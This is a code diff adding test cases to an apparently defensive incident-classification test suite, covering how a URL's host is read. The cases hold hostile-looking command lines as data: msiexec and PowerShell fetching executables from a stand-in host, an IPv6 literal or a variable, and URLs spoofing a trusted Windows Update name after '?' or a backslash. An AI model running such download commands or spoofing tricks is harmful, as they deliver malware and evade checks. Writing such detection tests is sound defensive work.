@@ -398,6 +398,30 @@ CASES = [
         "malware_execution", "quarantine_host",
         reg(0, "FIN-WS01", "SYSTEM", "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\"
             "UseLogonCredential", "DWORD (0x00000001)"))),
+    # --- a URL's host as a client reads it: the authority ends at ?, # or \ (a trusted name after them is not the
+    # host), an IPv6 literal is an address, a fetcher's URL may have no scheme, and one held in a variable is unread
+    _sound("msiexec_trusted_name_after_the_query", "quarantine_host", lambda: incident(
+        "malware_execution", "quarantine_host",
+        proc(0, "FIN-WS01", "SYSTEM", "msiexec.exe", "msiexec.exe /qn /i http://cdn-box7.xyz?@download.windowsupdate.com"
+             "/a.msi", parent="services.exe"))),
+    _refused("msiexec_trusted_name_after_a_backslash_claimed_benign", "implausible", lambda: incident(
+        "software_update", "dismiss",
+        proc(0, "FIN-WS01", "SYSTEM", "msiexec.exe", "msiexec.exe /qn /i http://cdn-box7.xyz\\@download.windowsupdate.com"
+             "/a.msi", parent="CcmExec.exe")), verdict="quarantine_host", code="CATEGORY_NOT_DEPICTED"),
+    _sound("bits_download_from_an_ipv6_literal", "quarantine_host", lambda: incident(
+        "malware_execution", "quarantine_host",
+        proc(0, "FIN-WS01", "SYSTEM", "powershell.exe", 'powershell.exe -NoProfile -c "Start-BitsTransfer -Source '
+             'http://[2606:4700::6810:1]/a.exe -Destination C:\\Windows\\Temp\\a.exe"', executable=PS,
+             parent="CcmExec.exe"))),
+    _sound("invoke_webrequest_without_a_scheme", "quarantine_host", lambda: incident(
+        "malware_execution", "quarantine_host",
+        proc(0, "FIN-WS01", "alice.chen", "powershell.exe", 'powershell.exe -NoProfile -c "iwr cdn-box7.xyz/a.exe '
+             '-OutFile C:\\Users\\Public\\a.exe"', executable=PS))),
+    _refused("invoke_webrequest_of_a_variable", "implausible", lambda: incident(
+        "software_update", "dismiss",
+        proc(0, "FIN-WS01", "SYSTEM", "powershell.exe", "powershell.exe -NoProfile -c \"Invoke-WebRequest $u -OutFile "
+             "C:\\Windows\\Temp\\a.exe\"", executable=PS, parent="CcmExec.exe")),
+        code="UNKNOWN_FORM"),
 ]
 
 
